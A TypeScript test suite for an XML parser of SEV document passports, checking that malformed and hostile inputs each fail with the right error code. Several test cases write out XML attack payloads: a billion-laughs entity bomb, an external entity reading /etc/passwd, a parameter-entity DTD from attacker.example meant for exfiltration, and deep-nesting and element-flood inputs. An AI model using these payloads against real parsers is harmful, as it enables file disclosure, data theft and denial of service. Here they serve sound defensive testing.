// Untrusted input: every hostile or broken document must end in a SevXmlError with the right
// code, never in another exception, a hang or entity expansion.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { buildMessage } from '../../codec/build';
import { parseMessage, SevXmlError, type SevXmlErrorCode } from '../../codec/parse';
import { encodeWindows1251, thrownBy } from './helpers';
import { samples } from './samples';

const SEV = 'http://www.eos.ru/2010/sev';
const valid = buildMessage(samples.mainDocWithResolution);
const utf8 = (text: string) => Buffer.from(text, 'utf8');
/** The valid passport with one piece of text replaced. */
const tampered = (from: string | RegExp, to: string) => {
  const xml = valid.replace(from, to);
  assert.notEqual(xml, valid, `nothing replaced for ${from}`);
  return utf8(xml);
};

const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE DocInfo [
  <!ENTITY lol "lol">
  ${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n  ')}
]>
<DocInfo xmlns="${SEV}">&lol9;</DocInfo>`;

interface HostileCase {
  input: Buffer;
  code: SevXmlErrorCode;
  path?: string;
  options?: { maxBytes: number };
}

const cases: Record<string, HostileCase> = {
  'empty input': { input: Buffer.alloc(0), code: 'MALFORMED' },
  'whitespace only': { input: utf8('  \n '), code: 'MALFORMED' },
  'a DOCTYPE with an internal subset': { input: utf8(`<!DOCTYPE DocInfo [<!ELEMENT DocInfo ANY>]><DocInfo xmlns="${SEV}"/>`), code: 'DTD_FORBIDDEN' },
  'billion laughs': { input: utf8(billionLaughs), code: 'DTD_FORBIDDEN' },
  'an external entity (file:///etc/passwd)': {
    input: utf8(`<?xml version="1.0"?><!DOCTYPE DocInfo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><DocInfo xmlns="${SEV}">&xxe;</DocInfo>`),
    code: 'DTD_FORBIDDEN',
  },
  'parameter entities and an external DTD': {
    input: utf8(`<!DOCTYPE DocInfo [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd; %send;]><DocInfo xmlns="${SEV}"/>`),
    code: 'DTD_FORBIDDEN',
  },
  'an external DTD only': { input: utf8(`<!DOCTYPE DocInfo SYSTEM "http://attacker.example/evil.dtd"><DocInfo xmlns="${SEV}"/>`), code: 'DTD_FORBIDDEN' },
  'an entity that was never declared': { input: tampered('<Annotation>', '<Annotation>&xxe;'), code: 'MALFORMED' },
  'the root in another namespace': { input: tampered(`<DocInfo xmlns="${SEV}">`, '<DocInfo xmlns="http://www.eos.ru/2010/sev2">'), code: 'WRONG_NAMESPACE', path: '/DocInfo' },
  'the root in no namespace': { input: utf8('<Report><Header/></Report>'), code: 'WRONG_NAMESPACE' },
  'an unknown root': { input: utf8(`<Envelop xmlns="${SEV}"><Address>x</Address></Envelop>`), code: 'WRONG_ROOT', path: '/Envelop' },
  'an XHTML page': { input: utf8('<html xmlns="http://www.w3.org/1999/xhtml"><body>Not found</body></html>'), code: 'WRONG_ROOT' },
  'a truncated document': { input: utf8(valid.slice(0, Math.floor(valid.length / 2))), code: 'MALFORMED' },
  'text after the root': { input: utf8(`${valid}garbage`), code: 'MALFORMED' },
  'an unbound prefix': { input: tampered('<Annotation>', '<x:Annotation>'), code: 'MALFORMED' },
  'a duplicate attribute': { input: tampered('Version="1.0"', 'Version="1.0" Version="2.0"'), code: 'MALFORMED' },
  'windows-1251 declared, UTF-8 bytes': { input: utf8(valid.replace('encoding="UTF-8"', 'encoding="windows-1251"')), code: 'ENCODING' },
  'UTF-8 declared, windows-1251 bytes': { input: encodeWindows1251(valid), code: 'ENCODING' },
  'UTF-16 declared over single-byte text': { input: utf8(valid.replace('encoding="UTF-8"', 'encoding="UTF-16"')), code: 'ENCODING' },
  'an unknown encoding': { input: utf8(valid.replace('encoding="UTF-8"', 'encoding="x-klingon"')), code: 'ENCODING' },
  'KOI8-R, a real but unsupported encoding': { input: utf8('<?xml version="1.0" encoding="KOI8-R"?><DocInfo/>'), code: 'ENCODING' },
  'real UTF-16 with a byte order mark': { input: Buffer.from(`\uFEFF${valid.replace('UTF-8', 'UTF-16')}`, 'utf16le'), code: 'ENCODING' },
  'a UTF-8 byte order mark with windows-1251 declared': { input: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), encodeWindows1251(valid.replace('UTF-8', 'windows-1251'))]), code: 'ENCODING' },
  'invalid UTF-8 sequences': { input: Buffer.concat([utf8(valid.slice(0, 300)), Buffer.from([0xc3, 0x28, 0xa0, 0xa1]), utf8(valid.slice(300))]), code: 'ENCODING' },
  'binary garbage (a PNG header)': { input: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52]), code: 'ENCODING' },
  'zero bytes': { input: Buffer.alloc(64), code: 'ENCODING' },
  'plain text': { input: utf8('Добрый день! Направляем документы.'), code: 'MALFORMED' },
  'an empty required attribute': { input: tampered(/MessageID="[0-9A-F]+"/, 'MessageID=""'), code: 'MISSING_ATTRIBUTE', path: '/DocInfo/Header/@MessageID' },
  'a blank required attribute': { input: tampered('DocumentID="11759337"', 'DocumentID="  "'), code: 'MISSING_ATTRIBUTE', path: '/DocInfo/DocumentList/Document[1]/@DocumentID' },
  'a missing required attribute': { input: tampered(/ Privacy="false"/, ''), code: 'MISSING_ATTRIBUTE', path: '/DocInfo/TaskList/Task[1]/@Privacy' },
  'a missing required element': { input: tampered(/<ResourceList>[\s\S]*<\/ResourceList>/, ''), code: 'MISSING_ELEMENT', path: '/DocInfo/Header/ResourceList' },
  'an official with neither FIO nor Post': { input: tampered(/<FIO>Воропанов С.А.<\/FIO>\s*<Post>Мэр города Вологды<\/Post>/, ''), code: 'MISSING_ELEMENT' },
  'a MessageID that is not a GUID': { input: tampered(/MessageID="[0-9A-F]+"/, 'MessageID="not-a-guid"'), code: 'INVALID_VALUE', path: '/DocInfo/Header/@MessageID' },
  'a GUID one digit short': { input: tampered('UID="5E7A0000C0DE4000A000000000000014"', 'UID="5E7A0000C0DE4000A00000000000001"'), code: 'INVALID_VALUE', path: '/DocInfo/DocumentList/Document[1]/@UID' },
  'a GUID with misplaced dashes': { input: tampered(/ReturnID="[0-9A-F]+"/, 'ReturnID="5E7A0000C0DE-4000-A000-0000-000000CB"'), code: 'INVALID_VALUE' },
  'a size that is not a number': { input: tampered('Size="48213"', 'Size="48 KB"'), code: 'INVALID_VALUE', path: '/DocInfo/DocumentList/Document[1]/File[1]/@Size' },
  'a boolean that is not one': { input: tampered('MainDocument="true"', 'MainDocument="yes"'), code: 'INVALID_VALUE' },
  'a date in Russian notation': { input: tampered('<Date>2024-03-14</Date>', '<Date>14.03.2024</Date>'), code: 'INVALID_VALUE', path: '/DocInfo/DocumentList/Document[1]/RegistrationInfo/Date' },
  'a value outside the enumeration': { input: tampered('Type="Created"', 'Type="Outgoing"'), code: 'INVALID_VALUE' },
  'a report type on a passport': { input: tampered('MessageType="MainDoc"', 'MessageType="Reception"'), code: 'INVALID_VALUE', path: '/DocInfo/Header/@MessageType' },
  'input over the size limit': { input: utf8(valid), code: 'TOO_LARGE', options: { maxBytes: 1024 } },
  'input over the default 10 MB': { input: Buffer.alloc(10 * 1024 * 1024 + 1, 0x20), code: 'TOO_LARGE' },
  'very deep nesting': { input: utf8(`<DocInfo xmlns="${SEV}">${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</DocInfo>`), code: 'TOO_DEEP' },
  'a flood of elements': { input: utf8(`<DocInfo xmlns="${SEV}">${'<a/>'.repeat(1_000_000)}</DocInfo>`), code: 'TOO_MANY_ELEMENTS' },
};

for (const [name, { input, code, path, options }] of Object.entries(cases)) {
  test(`refuses ${name} with ${code}`, { timeout: 5000 }, () => {
    const err = thrownBy(() => parseMessage(input, options));
    assert.ok(err instanceof SevXmlError, `not a SevXmlError: ${String(err)}`);
    assert.equal(err.code, code, err.message);
    if (path) assert.equal(err.path, path);
  });
}

test('errors inside the document carry line and column', () => {
  const err = thrownBy(() => parseMessage(tampered('MainDocument="true"', 'MainDocument="yes"')));
  assert.ok(err instanceof SevXmlError);
  assert.equal(err.line, valid.slice(0, valid.indexOf('MainDocument="true"')).split('\n').length);
  assert.ok(err.column !== undefined && err.column > 0);
});

test('no mutation of a valid passport gets anything but a message or a SevXmlError out', { timeout: 30_000 }, () => {
  const bytes = utf8(valid);
  let seed = 42;
  const random = (n: number) => {
    seed = (seed * 1103515245 + 12345) % 2 ** 31;
    return seed % n;
  };
  for (let i = 0; i < 300; i++) {
    const mutated = Buffer.from(bytes.subarray(0, random(bytes.length) + 1));
    for (let flips = random(4); flips >= 0; flips--) mutated[random(mutated.length)] = random(256);
    try {
      parseMessage(mutated);
    } catch (err) {
      assert.ok(err instanceof SevXmlError, `mutation ${i}: ${String(err)}`);
    }
  }
});
